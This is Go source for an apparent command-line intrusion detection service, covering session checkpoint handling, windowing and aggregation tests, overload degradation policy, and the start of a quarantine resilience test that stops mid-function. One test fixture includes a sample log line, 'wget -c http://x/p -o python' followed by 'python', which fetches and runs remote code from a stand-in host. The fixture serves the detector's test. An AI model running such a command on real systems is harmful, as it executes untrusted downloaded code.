// sessionsCompatible reports whether two resolved configs agree on every
// field that shapes session state and its interpretation — windowing,
// context building, and aggregation. Alert thresholds may differ between
// runs (retuning thresholds across a restart is normal operations). A
// mismatch is ErrCheckpointIncompatible.
func sessionsCompatible(a, b Config) error {
	type key struct {
		cw  int
		gap int64
		it  int64
		max int
		agg Aggregation
		dec float64
	}
	ka := key{a.ContextWindow, a.ContextGap, a.IdleTimeout, a.MaxSessionLines, a.Aggregation, a.Decay}
	kb := key{b.ContextWindow, b.ContextGap, b.IdleTimeout, b.MaxSessionLines, b.Aggregation, b.Decay}
	if ka != kb {
		return fmt.Errorf("%w: checkpoint session config %+v vs detector %+v",
			ErrCheckpointIncompatible, ka, kb)
	}
	return nil
}

// checkCompat verifies a checkpoint header against the receiving detector's
// session config and stamped modality — the gate both Restore and Import
// pass through, so no path silently mis-scores a window saved under
// different semantics or for a different log type.
func checkCompat(hdr checkpointHeader, cfg Config, modality string) error {
	if err := sessionsCompatible(hdr.Config.withDefaults(), cfg); err != nil {
		return err
	}
	if hdr.Modality != "" && modality != "" && hdr.Modality != modality {
		return fmt.Errorf("%w: checkpoint modality %q vs detector %q",
			ErrCheckpointIncompatible, hdr.Modality, modality)
	}
	return nil
}

// sessionRecords snapshots the detector's live sessions, sorted by user.
// users non-nil filters to that set (the export path).
func (d *Detector) sessionRecords(users map[string]bool) []SessionWindow {
	d.mu.Lock()
	recs := make([]SessionWindow, 0, len(d.sessions))
	for user, sess := range d.sessions {
		if users != nil && !users[user] {
			continue
		}
		r := SessionWindow{User: user, Last: sess.last, Entries: make([]WindowEntry, len(sess.entries))}
		for i, e := range sess.entries {
			r.Entries[i] = WindowEntry{Time: e.time, Line: e.line, Score: e.score}
		}
		recs = append(recs, r)
	}
	d.mu.Unlock()
	sort.Slice(recs, func(i, j int) bool { return recs[i].User < recs[j].User })
	return recs
}

// installRecords replaces the detector's session map with recs and folds
// the checkpointed counters into stats (st nil skips counters — the
// sharded restore folds the aggregate into one shard). It takes the
// pipeline mutex, so a concurrent Process never sees a half-installed map.
func (d *Detector) installRecords(recs []SessionWindow, hw int64, st *Stats) {
	sessions := make(map[string]*session, len(recs))
	for _, r := range recs {
		if sess := d.recordSession(r); sess != nil {
			sessions[r.User] = sess
		}
	}
	d.procMu.Lock()
	d.mu.Lock()
	d.sessions = sessions
	if hw > d.highWater {
		d.highWater = hw
	}
	if st != nil {
		d.stats.Events += st.Events
		d.stats.ScoredInputs += st.ScoredInputs
		d.stats.LineAlerts += st.LineAlerts
		d.stats.SessionAlerts += st.SessionAlerts
		d.stats.SessionsStarted += st.SessionsStarted
		d.stats.SessionsIdleClosed += st.SessionsIdleClosed
		d.stats.SessionsEvicted += st.SessionsEvicted
		d.stats.ScorerPanics += st.ScorerPanics
		d.stats.QuarantinedInputs += st.QuarantinedInputs
		d.stats.QuarantineHits += st.QuarantineHits
	}
	d.mu.Unlock()
	d.procMu.Unlock()
}

// mergeRecords overwrites only the listed users' sessions (the import
// path): each record replaces that user's window wholesale, an empty record
// removes it, and everyone else's window is untouched. Counters are not
// folded — an import is a handoff, not a restart.
func (d *Detector) mergeRecords(recs []SessionWindow, hw int64) {
	d.procMu.Lock()
	d.mu.Lock()
	for _, r := range recs {
		if sess := d.recordSession(r); sess != nil {
			d.sessions[r.User] = sess
		} else {
			delete(d.sessions, r.User)
		}
	}
	if hw > d.highWater {
		d.highWater = hw
	}
	d.mu.Unlock()
	d.procMu.Unlock()
}

// recordSession materializes one persisted window, trimming defensively to
// the detector's cap (the invariant belongs to this process). Nil for an
// empty record — the "remove this user" marker.
func (d *Detector) recordSession(r SessionWindow) *session {
	if len(r.Entries) == 0 {
		return nil
	}
	sess := &session{last: r.Last, entries: make([]entry, len(r.Entries))}
	for i, e := range r.Entries {
		sess.entries[i] = entry{time: e.Time, line: e.Line, score: e.Score}
	}
	if over := len(sess.entries) - d.cfg.MaxSessionLines; over > 0 {
		sess.entries = sess.entries[over:]
	}
	return sess
}

// SaveSessions writes a checkpoint of the detector's per-user session
// windows, counters, and high-water mark to w. Safe during serving: the
// snapshot is taken under the state lock (consistent as of one instant) and
// serialization happens outside it.
func (d *Detector) SaveSessions(w io.Writer) error {
	recs := d.sessionRecords(nil)
	d.mu.Lock()
	st := d.stats
	hw := d.highWater
	m := d.modality
	d.mu.Unlock()
	return writeCheckpoint(w, d.cfg, m, recs, hw, st)
}

// ExportSessions writes a checkpoint holding only the named users' windows
// — the per-user refinement of SaveSessions the fleet handoff uses. A user
// with no live session is simply absent from the export. users nil exports
// everyone (equivalent to SaveSessions minus the counter fold on restore).
func (d *Detector) ExportSessions(w io.Writer, users []string) error {
	var filter map[string]bool
	if users != nil {
		filter = make(map[string]bool, len(users))
		for _, u := range users {
			filter[u] = true
		}
	}
	recs := d.sessionRecords(filter)
	d.mu.Lock()
	hw := d.highWater
	m := d.modality
	d.mu.Unlock()
	return writeCheckpoint(w, d.cfg, m, recs, hw, Stats{})
}

// ImportSessions merges a checkpoint written by ExportSessions (or
// SaveSessions, or WriteSessionsCheckpoint) into the detector: each carried
// user's window is replaced wholesale, an empty window removes the user,
// and every other session is untouched. Unlike RestoreSessions it is meant
// for live serving — the swap happens under the pipeline mutex, atomically
// between batches — and it does not fold counters. Returns the number of
// user windows applied.
func (d *Detector) ImportSessions(r io.Reader) (int, error) {
	hdr, recs, err := readCheckpoint(r)
	if err != nil {
		return 0, err
	}
	if err := checkCompat(hdr, d.cfg, d.Modality()); err != nil {
		return 0, err
	}
	d.mergeRecords(recs, hdr.HighWater)
	return len(recs), nil
}

// RestoreSessions replaces the detector's session state with a checkpoint
// written by SaveSessions (or ShardedDetector.SaveSessions), verifying the
// format and payload checksum first and rejecting checkpoints whose session
// semantics or log modality differ from the detector's
// (ErrCheckpointIncompatible). Meant for startup, before traffic; it also
// folds the checkpointed counters into Stats so observability survives the
// restart.
func (d *Detector) RestoreSessions(r io.Reader) error {
	hdr, recs, err := readCheckpoint(r)
	if err != nil {
		return err
	}
	if err := checkCompat(hdr, d.cfg, d.Modality()); err != nil {
		return err
	}
	d.installRecords(recs, hdr.HighWater, &hdr.Stats)
	return nil
}

// SaveSessions checkpoints every shard's sessions as one user-keyed
// stream: shard snapshots are merged and sorted, so the artifact is
// independent of the shard count that produced it. Each shard is
// snapshotted under its own lock — crash-consistent per user (a user lives
// on exactly one shard), not globally instantaneous.
func (d *ShardedDetector) SaveSessions(w io.Writer) error {
	var recs []SessionWindow
	for _, det := range d.dets {
		recs = append(recs, det.sessionRecords(nil)...)
	}
	sort.Slice(recs, func(i, j int) bool { return recs[i].User < recs[j].User })
	return writeCheckpoint(w, d.Config(), d.Modality(), recs, d.HighWater(), d.Stats())
}

// ExportSessions writes the named users' windows (everyone when users is
// nil) as one checkpoint stream, fanning the filter out across shards. The
// export is per-user crash-consistent, like SaveSessions.
func (d *ShardedDetector) ExportSessions(w io.Writer, users []string) error {
	var filter map[string]bool
	if users != nil {
		filter = make(map[string]bool, len(users))
		for _, u := range users {
			filter[u] = true
		}
	}
	var recs []SessionWindow
	for _, det := range d.dets {
		recs = append(recs, det.sessionRecords(filter)...)
	}
	sort.Slice(recs, func(i, j int) bool { return recs[i].User < recs[j].User })
	return writeCheckpoint(w, d.Config(), d.Modality(), recs, d.HighWater(), Stats{})
}

// ImportSessions merges a checkpoint into the sharded detector, re-routing
// every carried user through the shard hash and replacing only those users'
// windows (Detector.ImportSessions semantics, per shard). Safe during live
// serving; returns the number of user windows applied.
func (d *ShardedDetector) ImportSessions(r io.Reader) (int, error) {
	hdr, recs, err := readCheckpoint(r)
	if err != nil {
		return 0, err
	}
	if err := checkCompat(hdr, d.Config(), d.Modality()); err != nil {
		return 0, err
	}
	n := len(d.dets)
	parts := make([][]SessionWindow, n)
	for _, rec := range recs {
		sh := shardOf(rec.User, n)
		parts[sh] = append(parts[sh], rec)
	}
	for i, det := range d.dets {
		if len(parts[i]) > 0 {
			det.mergeRecords(parts[i], hdr.HighWater)
		}
	}
	return len(recs), nil
}

// RestoreSessions restores a checkpoint into the sharded detector,
// re-routing every user through the shard hash — the shard count may
// differ from the one that saved it. The aggregate counters are folded
// into shard 0 (per-shard counter attribution does not survive a reshard;
// the service-level aggregate does).
func (d *ShardedDetector) RestoreSessions(r io.Reader) error {
	hdr, recs, err := readCheckpoint(r)
	if err != nil {
		return err
	}
	if err := checkCompat(hdr, d.Config(), d.Modality()); err != nil {
		return err
	}
	n := len(d.dets)
	parts := make([][]SessionWindow, n)
	for _, rec := range recs {
		sh := shardOf(rec.User, n)
		parts[sh] = append(parts[sh], rec)
	}
	for i, det := range d.dets {
		st := &hdr.Stats
		if i != 0 {
			st = nil
		}
		det.installRecords(parts[i], hdr.HighWater, st)
	}
	return nil
}
