package stream

import (
	"fmt"
	"math"
	"testing"

	"clmids/internal/tuning"
)

// stubScorer scores lines by table lookup (default def), counting calls.
type stubScorer struct {
	scores map[string]float64
	def    float64
	calls  int
	inputs int
}

func (s *stubScorer) Score(lines []string) ([]float64, error) {
	s.calls++
	s.inputs += len(lines)
	out := make([]float64, len(lines))
	for i, l := range lines {
		if v, ok := s.scores[l]; ok {
			out[i] = v
		} else {
			out[i] = s.def
		}
	}
	return out, nil
}

type errScorer struct{}

func (errScorer) Score([]string) ([]float64, error) {
	return nil, fmt.Errorf("boom")
}

func ev(user string, t int64, line string) Event {
	return Event{User: user, Time: t, Line: line}
}

func almost(a, b float64) bool { return math.Abs(a-b) < 1e-12 }

func TestAggregations(t *testing.T) {
	stub := &stubScorer{scores: map[string]float64{"a": 0.2, "b": 0.8, "c": 0.5}}
	events := []Event{ev("u", 10, "a"), ev("u", 20, "b"), ev("u", 30, "c")}

	for _, tc := range []struct {
		agg  Aggregation
		want float64 // session score after the third event
	}{
		{AggMax, 0.8},
		{AggMean, (0.2 + 0.8 + 0.5) / 3},
		// decay 0.5, newest first: (0.5·1 + 0.8·0.5 + 0.2·0.25)/(1.75)
		{AggDecay, (0.5 + 0.8*0.5 + 0.2*0.25) / 1.75},
	} {
		cfg := DefaultConfig()
		cfg.Aggregation = tc.agg
		cfg.Decay = 0.5
		det := NewDetector(stub, cfg)
		vs, err := det.Process(events)
		if err != nil {
			t.Fatal(err)
		}
		if got := vs[2].SessionScore; !almost(got, tc.want) {
			t.Errorf("%v: session score %.6f, want %.6f", tc.agg, got, tc.want)
		}
		if vs[2].SessionLines != 3 {
			t.Errorf("%v: session lines %d, want 3", tc.agg, vs[2].SessionLines)
		}
	}
}

// TestIdleTimeoutStartsNewSession: an event-time gap larger than
// IdleTimeout closes the session; the next event starts a fresh window.
func TestIdleTimeoutStartsNewSession(t *testing.T) {
	stub := &stubScorer{scores: map[string]float64{"hot": 1.0}, def: 0.0}
	cfg := DefaultConfig()
	cfg.IdleTimeout = 100
	cfg.Aggregation = AggMax
	det := NewDetector(stub, cfg)

	vs, err := det.Process([]Event{
		ev("u", 0, "hot"),
		ev("u", 50, "cold"),
		ev("u", 151, "cold"), // gap 101 > 100: new session
	})
	if err != nil {
		t.Fatal(err)
	}
	if vs[1].SessionScore != 1.0 || vs[1].SessionLines != 2 {
		t.Fatalf("pre-timeout verdict: score %v lines %d", vs[1].SessionScore, vs[1].SessionLines)
	}
	if vs[2].SessionScore != 0.0 || vs[2].SessionLines != 1 {
		t.Fatalf("post-timeout verdict: score %v lines %d (window should reset)", vs[2].SessionScore, vs[2].SessionLines)
	}
	st := det.Stats()
	if st.SessionsStarted != 2 || st.SessionsIdleClosed != 1 {
		t.Fatalf("stats: %+v", st)
	}
}

// TestMaxLengthEviction: the sliding window drops the oldest line, so an
// old high score eventually leaves the session aggregate.
func TestMaxLengthEviction(t *testing.T) {
	stub := &stubScorer{scores: map[string]float64{"hot": 1.0}, def: 0.0}
	cfg := DefaultConfig()
	cfg.MaxSessionLines = 3
	cfg.Aggregation = AggMax
	det := NewDetector(stub, cfg)

	events := []Event{ev("u", 1, "hot")}
	for i := 2; i <= 5; i++ {
		events = append(events, ev("u", int64(i), "cold"))
	}
	vs, err := det.Process(events)
	if err != nil {
		t.Fatal(err)
	}
	// Windows: [hot] [hot c] [hot c c] [c c c] [c c c]
	wantScores := []float64{1, 1, 1, 0, 0}
	wantLines := []int{1, 2, 3, 3, 3}
	for i, v := range vs {
		if v.SessionScore != wantScores[i] || v.SessionLines != wantLines[i] {
			t.Errorf("event %d: score %v lines %d, want %v %d",
				i, v.SessionScore, v.SessionLines, wantScores[i], wantLines[i])
		}
	}
	// The same holds when events arrive one at a time (trim between calls).
	det2 := NewDetector(stub, cfg)
	for i, e := range events {
		v, err := det2.Process([]Event{e})
		if err != nil {
			t.Fatal(err)
		}
		if v[0].SessionScore != wantScores[i] || v[0].SessionLines != wantLines[i] {
			t.Errorf("incremental event %d: score %v lines %d, want %v %d",
				i, v[0].SessionScore, v[0].SessionLines, wantScores[i], wantLines[i])
		}
	}
}

// TestContextJoinMatchesBuildContexts: the online context builder must
// reproduce tuning.BuildContexts on the same timestamp-ordered log.
func TestContextJoinMatchesBuildContexts(t *testing.T) {
	items := []tuning.TimedLine{
		{User: "a", Time: 100, Line: "whoami"},
		{User: "b", Time: 101, Line: "ls"},
		{User: "a", Time: 110, Line: "wget -c http://x/p -o python"},
		{User: "a", Time: 115, Line: "python"},
		{User: "b", Time: 130, Line: "df -h"},
		{User: "a", Time: 9000, Line: "df -h"}, // far later: no context
	}
	want := tuning.BuildContexts(items, tuning.ContextConfig{Window: 3, MaxGap: 600})

	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.ContextGap = 600
	cfg.IdleTimeout = 1 << 40 // context gaps, not sessionization, under test
	det := NewDetector(&stubScorer{}, cfg)
	events := make([]Event, len(items))
	for i, it := range items {
		events[i] = ev(it.User, it.Time, it.Line)
	}
	vs, err := det.Process(events)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range vs {
		got := v.Context
		if got == "" {
			got = v.Line
		}
		if got != want[i] {
			t.Errorf("event %d: context %q, want %q", i, got, want[i])
		}
	}
}

// TestBatchDedup: one Process call issues one Score call whose inputs are
// deduplicated across events.
func TestBatchDedup(t *testing.T) {
	stub := &stubScorer{}
	det := NewDetector(stub, DefaultConfig())
	var events []Event
	for i := 0; i < 50; i++ {
		events = append(events, ev(fmt.Sprintf("u%d", i%5), int64(i), "ls -la"))
	}
	if _, err := det.Process(events); err != nil {
		t.Fatal(err)
	}
	if stub.calls != 1 {
		t.Fatalf("Score calls = %d, want 1", stub.calls)
	}
	if stub.inputs != 1 {
		t.Fatalf("scoring inputs = %d, want 1 (deduplicated)", stub.inputs)
	}
	if st := det.Stats(); st.Events != 50 || st.ScoredInputs != 1 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestThresholdAlerts(t *testing.T) {
	stub := &stubScorer{scores: map[string]float64{"bad": 0.95, "meh": 0.6}}
	cfg := DefaultConfig()
	cfg.Aggregation = AggMax
	cfg.LineThreshold = 0.9
	cfg.SessionThreshold = 0.5
	det := NewDetector(stub, cfg)
	vs, err := det.Process([]Event{ev("u", 1, "meh"), ev("u", 2, "bad")})
	if err != nil {
		t.Fatal(err)
	}
	if vs[0].LineAlert || !vs[0].SessionAlert {
		t.Fatalf("verdict 0: %+v", vs[0])
	}
	if !vs[1].LineAlert || !vs[1].SessionAlert {
		t.Fatalf("verdict 1: %+v", vs[1])
	}
	if st := det.Stats(); st.LineAlerts != 1 || st.SessionAlerts != 2 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestEvictIdle(t *testing.T) {
	cfg := DefaultConfig()
	cfg.IdleTimeout = 100
	det := NewDetector(&stubScorer{}, cfg)
	if _, err := det.Process([]Event{ev("a", 10, "x"), ev("b", 180, "x")}); err != nil {
		t.Fatal(err)
	}
	if n := det.EvictIdle(200); n != 1 { // only a is idle past 100s
		t.Fatalf("evicted %d, want 1", n)
	}
	st := det.Stats()
	if st.ActiveSessions != 1 || st.SessionsEvicted != 1 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestProcessEmptyAndError(t *testing.T) {
	det := NewDetector(&stubScorer{}, DefaultConfig())
	vs, err := det.Process(nil)
	if err != nil || vs != nil {
		t.Fatalf("empty Process: %v %v", vs, err)
	}
	bad := NewDetector(errScorer{}, DefaultConfig())
	if _, err := bad.Process([]Event{ev("u", 1, "x")}); err == nil {
		t.Fatal("scorer error swallowed")
	}
}

// flakyScorer fails while failing is set, scoring 0 otherwise.
type flakyScorer struct {
	failing bool
}

func (s *flakyScorer) Score(lines []string) ([]float64, error) {
	if s.failing {
		return nil, fmt.Errorf("transient failure")
	}
	return make([]float64, len(lines)), nil
}

// TestScorerErrorRollsBack: a failed batch leaves no trace in session
// windows or session counters — no zero-scored entries diluting later
// aggregates, no windows growing past their cap, no phantom sessions.
func TestScorerErrorRollsBack(t *testing.T) {
	scorer := &flakyScorer{}
	cfg := DefaultConfig()
	cfg.Aggregation = AggMean
	det := NewDetector(scorer, cfg)

	if _, err := det.Process([]Event{ev("u", 1, "a"), ev("u", 2, "b")}); err != nil {
		t.Fatal(err)
	}
	scorer.failing = true
	_, err := det.Process([]Event{ev("u", 3, "c"), ev("u", 4, "d"), ev("newbie", 5, "e")})
	if err == nil {
		t.Fatal("scorer error swallowed")
	}
	scorer.failing = false

	st := det.Stats()
	if st.Events != 5 { // failed events still count as seen
		t.Fatalf("events %d, want 5", st.Events)
	}
	if st.ActiveSessions != 1 || st.SessionsStarted != 1 {
		t.Fatalf("phantom sessions after rollback: %+v", st)
	}
	vs, err := det.Process([]Event{ev("u", 6, "f")})
	if err != nil {
		t.Fatal(err)
	}
	// Window must hold a, b, f only — the failed c and d never joined.
	if vs[0].SessionLines != 3 {
		t.Fatalf("session lines %d after rollback, want 3", vs[0].SessionLines)
	}
}

// panicScorer panics on its first call, then scores normally.
type panicScorer struct {
	panicked bool
}

func (s *panicScorer) Score(lines []string) ([]float64, error) {
	if !s.panicked {
		s.panicked = true
		panic("scorer bug")
	}
	return make([]float64, len(lines)), nil
}

// TestScorerPanicLeavesDetectorUsable: a panicking scorer must not wedge
// the pipeline mutex or escape Process — the detector recovers it, retries
// the input, and commits the batch. A transient panic (one that does not
// reproduce on retry) quarantines nothing.
func TestScorerPanicLeavesDetectorUsable(t *testing.T) {
	det := NewDetector(&panicScorer{}, DefaultConfig())
	vs, err := det.Process([]Event{ev("u", 1, "x")})
	if err != nil || len(vs) != 1 {
		t.Fatalf("panicked batch not recovered: %v %+v", err, vs)
	}
	st := det.Stats()
	if st.ScorerPanics != 1 {
		t.Fatalf("ScorerPanics = %d, want 1", st.ScorerPanics)
	}
	if st.QuarantinedInputs != 0 {
		t.Fatalf("transient panic quarantined %d inputs: %+v", st.QuarantinedInputs, st)
	}
	if st.ActiveSessions != 1 || st.SessionsStarted != 1 {
		t.Fatalf("recovered batch not committed: %+v", st)
	}
	vs, err = det.Process([]Event{ev("u", 2, "y")})
	if err != nil || len(vs) != 1 || vs[0].SessionLines != 2 {
		t.Fatalf("detector unusable after recovered panic: %v %+v", err, vs)
	}
}

func TestHighWater(t *testing.T) {
	cfg := DefaultConfig()
	cfg.IdleTimeout = 100
	det := NewDetector(&stubScorer{}, cfg)
	if det.HighWater() != 0 {
		t.Fatalf("high water %d before any event", det.HighWater())
	}
	if _, err := det.Process([]Event{ev("a", 50, "x"), ev("b", 400, "x")}); err != nil {
		t.Fatal(err)
	}
	if hw := det.HighWater(); hw != 400 {
		t.Fatalf("high water %d, want 400", hw)
	}
	// Sweeping at the stream's own clock evicts a (idle 350s) but not b.
	if n := det.EvictIdle(det.HighWater()); n != 1 {
		t.Fatalf("evicted %d, want 1", n)
	}
}
