package stream

// Overload policies and graceful precision degradation. The paper's
// deployment (~30M lines/day from ~100k machines) cannot afford a detector
// that stalls under a traffic spike: a wedged replica silently drops
// exactly the multi-line chains sessions exist to catch. The service
// therefore picks one of three behaviors when a shard's queue saturates:
//
//   - block: today's backpressure — Submit waits (bounded by its context).
//   - shed: refuse with ErrOverloaded; the HTTP layer maps it to 429 +
//     Retry-After so well-behaved producers back off.
//   - degrade: keep accepting, but under sustained saturation downshift
//     the shard's scorer one rung on the precision ladder (float64 →
//     float32 → int8, PR 5), trading the documented parity bounds for 3-4×
//     cold throughput; shift back up after sustained calm (hysteresis).
//
// Degradation is per shard (a hot user hashing to one shard degrades only
// that shard) and swaps whole scorers via Detector.SwapScorer, so no batch
// ever mixes rungs and verdict thresholds stay within the PR 5 parity
// bounds the corpus harness pins.

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"clmids/internal/model"
	"clmids/internal/tuning"
)

// OverloadPolicy selects what Submit does when a target shard's queue is
// full (and, for degrade, what the monitor does under sustained overload).
type OverloadPolicy int

const (
	// OverloadBlock waits for queue space: lossless backpressure.
	OverloadBlock OverloadPolicy = iota
	// OverloadShed rejects with ErrOverloaded instead of queueing.
	OverloadShed
	// OverloadDegrade blocks like OverloadBlock, and additionally
	// downshifts saturated shards' scorers down the precision ladder.
	OverloadDegrade
)

// String renders the policy (the clmserve flag values).
func (p OverloadPolicy) String() string {
	switch p {
	case OverloadBlock:
		return "block"
	case OverloadShed:
		return "shed"
	case OverloadDegrade:
		return "degrade"
	default:
		return fmt.Sprintf("OverloadPolicy(%d)", int(p))
	}
}

// ParseOverloadPolicy converts a flag value into an OverloadPolicy.
func ParseOverloadPolicy(s string) (OverloadPolicy, error) {
	switch s {
	case "", "block":
		return OverloadBlock, nil
	case "shed":
		return OverloadShed, nil
	case "degrade":
		return OverloadDegrade, nil
	default:
		return 0, fmt.Errorf("stream: unknown overload policy %q (want block | shed | degrade)", s)
	}
}

// precisionLadder is the degradation order, most exact first.
var precisionLadder = [...]model.Precision{
	model.PrecisionFloat64, model.PrecisionFloat32, model.PrecisionInt8,
}

// rungsFrom returns the ladder from a scorer's native rung downward: a
// float32-native scorer can only degrade to int8; an int8-native one has
// nowhere to go.
func rungsFrom(native model.Precision) []model.Precision {
	if native == "" {
		native = model.PrecisionFloat64
	}
	for i, p := range precisionLadder {
		if p == native {
			return precisionLadder[i:]
		}
	}
	return []model.Precision{native}
}

// shardDegrade is one shard's degradation state. The hysteresis fields
// (overAt, calmAt) are only touched under the service's degMu (single
// monitor discipline); base and ladder sit behind the small local mutex so
// Stats and /readyz read displayed state without waiting behind an
// in-flight scorer swap; rung and the shift counters are atomics.
type shardDegrade struct {
	mu      sync.Mutex // guards base + ladder (rebind on reload vs. readers)
	base    tuning.Scorer
	ladder  []model.Precision
	rung    atomic.Int32 // index into ladder; 0 = native
	overAt  time.Time    // start of the current saturated stretch (zero: calm)
	calmAt  time.Time    // start of the current calm stretch while degraded
	downs   atomic.Int64
	ups     atomic.Int64
	lastErr atomic.Value // string: most recent shift failure, for /stats
}

// rebind points one shard's degradation state at a (new) native scorer.
func (st *shardDegrade) rebind(base tuning.Scorer) {
	ladder := []model.Precision{model.PrecisionFloat64}
	if native, ok := tuning.ScorerPrecision(base); ok {
		ladder = rungsFrom(native)
	}
	// else: no reported rung — nothing to degrade through; the shard still
	// serves, the policy just has no lever here.
	st.mu.Lock()
	st.base = base
	st.ladder = ladder
	st.mu.Unlock()
	st.rung.Store(0)
	st.downs.Store(0)
	st.ups.Store(0)
	st.overAt, st.calmAt = time.Time{}, time.Time{}
}

// initDegrade (re)binds every shard's degradation state to its current
// scorer — at service construction, and after a hot reload installs a new
// artifact (a reload resets degradation: the new bundle serves at its
// native rung until overload says otherwise). Callers hold degMu.
func (s *Service) initDegrade() {
	for i, sh := range s.shards {
		s.deg[i].rebind(sh.det.scorerRef())
	}
}

// queueHighWater is the depth at which a shard queue counts as saturated.
func (s *Service) queueHighWater() int {
	hw := int(float64(s.cfg.QueueRequests) * s.cfg.HighWaterFrac)
	if hw < 1 {
		hw = 1
	}
	if hw > s.cfg.QueueRequests {
		hw = s.cfg.QueueRequests
	}
	return hw
}

// monitor drives the degrade policy: one sampling sweep per OverloadTick
// until the service closes.
func (s *Service) monitor() {
	defer close(s.monitorDone)
	tick := time.NewTicker(s.cfg.OverloadTick)
	defer tick.Stop()
	for {
		select {
		case <-s.closing:
			return
		case now := <-tick.C:
			s.PollOverload(now)
		}
	}
}

// PollOverload runs one overload sampling sweep at the given instant: each
// shard's queue depth is compared against the high-water mark and the
// hysteresis clock advanced — downshifting after DegradeAfter of sustained
// saturation, upshifting after RecoverAfter of sustained calm. The monitor
// goroutine calls it every OverloadTick; it is exported so drills and
// tests can drive the hysteresis clock deterministically. A sweep that
// decides to shift blocks until the shard's in-flight batch commits
// (SwapScorer semantics): the swap takes effect at the first moment it can
// influence scoring.
func (s *Service) PollOverload(now time.Time) {
	if s.cfg.Overload != OverloadDegrade {
		return
	}
	hw := s.queueHighWater()
	s.degMu.Lock()
	defer s.degMu.Unlock()
	for i, sh := range s.shards {
		s.observeShard(sh, s.deg[i], len(sh.queue) >= hw, now)
	}
}

// observeShard advances one shard's hysteresis state machine. Callers hold
// degMu.
func (s *Service) observeShard(sh *svcShard, st *shardDegrade, saturated bool, now time.Time) {
	st.mu.Lock()
	rungs := len(st.ladder)
	st.mu.Unlock()
	if rungs < 2 {
		return
	}
	rung := int(st.rung.Load())
	if saturated {
		st.calmAt = time.Time{}
		if st.overAt.IsZero() {
			st.overAt = now
			return
		}
		if now.Sub(st.overAt) >= s.cfg.DegradeAfter && rung < rungs-1 {
			if s.shiftShard(sh, st, rung+1) {
				st.downs.Add(1)
			}
			st.overAt = now // the next rung needs its own sustained stretch
		}
		return
	}
	st.overAt = time.Time{}
	if rung == 0 {
		st.calmAt = time.Time{}
		return
	}
	if st.calmAt.IsZero() {
		st.calmAt = now
		return
	}
	if now.Sub(st.calmAt) >= s.cfg.RecoverAfter {
		if s.shiftShard(sh, st, rung-1) {
			st.ups.Add(1)
		}
		st.calmAt = now
	}
}

// shiftShard installs the scorer for ladder[rung] on one shard. Rung 0
// restores the original base scorer (warm LRU and all); lower rungs derive
// a fresh variant from the base via tuning.AtPrecision — replication and
// engine rebinding happen before the swap, so the scoring pause is the
// pointer exchange. Returns whether the shift took effect.
func (s *Service) shiftShard(sh *svcShard, st *shardDegrade, rung int) bool {
	st.mu.Lock()
	base := st.base
	target := st.ladder[rung]
	st.mu.Unlock()
	next := base
	if rung != 0 {
		sc, err := tuning.AtPrecision(base, target)
		if err != nil {
			st.lastErr.Store(err.Error())
			return false
		}
		next = sc
	}
	sh.det.SwapScorer(next, sh.det.ScorerVersion())
	st.rung.Store(int32(rung))
	return true
}

// info reports one shard's displayed degradation state without waiting
// behind an in-flight swap.
func (st *shardDegrade) info() (rung int, precision model.Precision, downs, ups int64) {
	rung = int(st.rung.Load())
	st.mu.Lock()
	if rung >= len(st.ladder) {
		rung = len(st.ladder) - 1
	}
	precision = st.ladder[rung]
	st.mu.Unlock()
	return rung, precision, st.downs.Load(), st.ups.Load()
}

// DegradedShards counts shards currently serving below their native rung.
// Zero under every policy but degrade.
func (s *Service) DegradedShards() int {
	n := 0
	for _, st := range s.deg {
		if st != nil && st.rung.Load() > 0 {
			n++
		}
	}
	return n
}

// OverloadPolicy returns the service's configured overload policy.
func (s *Service) OverloadPolicy() OverloadPolicy { return s.cfg.Overload }
