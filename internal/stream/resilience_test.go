package stream

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"clmids/internal/faults"
	"clmids/internal/model"
	"clmids/internal/tuning"
)

// poisonScorer panics reproducibly whenever any input contains "POISON",
// and scores everything else 0.1 — the poison-line case quarantine exists
// for.
type poisonScorer struct {
	calls atomic.Int64
}

func (p *poisonScorer) Score(lines []string) ([]float64, error) {
	p.calls.Add(1)
	for _, l := range lines {
		if strings.Contains(l, "POISON") {
			panic("poison input")
		}
	}
	out := make([]float64, len(lines))
	for i := range out {
		out[i] = 0.1
	}
	return out, nil
}

// TestPoisonLineQuarantined: a reproducibly panicking input is isolated by
// bisection, quarantined, served the quarantine score — and the rest of
// the batch scores normally in the same Process call.
func TestPoisonLineQuarantined(t *testing.T) {
	cfg := DefaultConfig()
	cfg.QuarantineScore = 0.99
	sc := &poisonScorer{}
	det := NewDetector(sc, cfg)

	vs, err := det.Process([]Event{
		ev("a", 1, "ls"), ev("b", 1, "POISON"), ev("c", 1, "pwd"), ev("d", 1, "id"),
	})
	if err != nil {
		t.Fatalf("poisoned batch failed instead of quarantining: %v", err)
	}
	if len(vs) != 4 {
		t.Fatalf("got %d verdicts, want 4", len(vs))
	}
	for _, v := range vs {
		want := 0.1
		if v.Line == "POISON" {
			want = cfg.QuarantineScore
		}
		if v.LineScore != want {
			t.Fatalf("verdict for %q scored %v, want %v", v.Line, v.LineScore, want)
		}
	}
	st := det.Stats()
	if st.QuarantinedInputs != 1 {
		t.Fatalf("QuarantinedInputs = %d, want 1", st.QuarantinedInputs)
	}
	if st.ScorerPanics < 2 {
		t.Fatalf("ScorerPanics = %d, want >= 2 (batch + isolation)", st.ScorerPanics)
	}
	found := false
	for _, s := range st.QuarantineSample {
		found = found || strings.Contains(s, "POISON")
	}
	if !found {
		t.Fatalf("quarantine sample %q does not carry the poison line", st.QuarantineSample)
	}

	// The quarantined input must never reach the scorer again: same line,
	// same quarantine score, zero extra panics.
	before := sc.calls.Load()
	panics := st.ScorerPanics
	vs, err = det.Process([]Event{ev("b", 2, "POISON")})
	if err != nil || vs[0].LineScore != cfg.QuarantineScore {
		t.Fatalf("quarantined line rescored: %v %+v", err, vs)
	}
	st = det.Stats()
	if st.ScorerPanics != panics {
		t.Fatalf("quarantined line reached the scorer again (%d panics, had %d)", st.ScorerPanics, panics)
	}
	if st.QuarantineHits < 1 {
		t.Fatalf("QuarantineHits = %d, want >= 1", st.QuarantineHits)
	}
	if got := sc.calls.Load(); got != before {
